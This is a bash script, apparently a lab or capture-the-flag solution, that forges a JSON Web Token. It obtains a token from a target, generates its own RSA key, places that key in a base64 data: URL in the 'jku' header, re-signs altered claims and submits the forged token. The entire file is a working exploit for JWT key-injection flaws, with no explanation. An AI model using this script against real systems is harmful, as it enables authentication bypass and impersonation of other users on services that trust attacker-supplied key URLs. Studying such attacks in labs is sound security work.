#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at key-address token)")"
key="$(mktemp)"
trap 'rm -f "$key"' EXIT
openssl genrsa -out "$key" 2048 2>/dev/null
modulus="$(openssl rsa -in "$key" -noout -modulus | cut -d= -f2 | unhex | b64)"
keys="$(printf '{"keys":[{"kty":"RSA","n":"%s","e":"AQAB"}]}' "$modulus" | openssl base64 -A)"
header="$(printf '{"alg":"RS256","jku":"data:application/json;base64,%s"}' "$keys" | b64)"
input="$header.$(claims "$token")"
signature="$(printf '%s' "$input" | openssl dgst -sha256 -sign "$key" -binary | b64)"
send key-address "$input.$signature"
